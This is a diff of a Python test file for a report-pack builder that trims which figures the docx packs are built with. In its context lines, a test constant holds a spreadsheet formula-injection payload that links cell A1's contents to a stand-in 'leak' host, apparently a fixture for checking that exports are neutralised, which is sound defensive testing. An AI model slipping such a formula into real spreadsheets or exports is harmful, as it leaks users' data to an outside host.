@@ -23,7 +23,10 @@ from analysis.model import text
 
 CJK = re.compile(r"[\u3400-\u9fff]")
 EVIL = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
-DOC_FIGURES = ["scorecard", "fan_charts", "sector_trends"]
+#: Figures the packs are built with: one for the targets part and one for the sectors part of the
+#: docx (the 21-panel fan chart would only cost time here; every figure is drawn in
+#: tests/test_figures_layout.py).
+DOC_FIGURES = ["scorecard", "sector_trends"]
 N_TARGETS = 21
 
 
@@ -57,7 +60,7 @@ def packs(tmp_path_factory):
     out = {
         "zh": _build(tmp, "zh", lang="zh"),
         "zh_again": _build(tmp, "zh_again", lang="zh"),
-        "en": _build(tmp, "en", lang="en"),
+        "en": _build(tmp, "en", lang="en", figures_only=["scorecard"]),
         "multi": _build(tmp, "multi", lang="zh", data=multi, figures_only=["scorecard"]),
         "own_sectors": _build(tmp, "own_sectors", lang="zh", data=multi, figures_only=["scorecard", "sector_trends"],
                               sectors=config.sector_panel_path()),
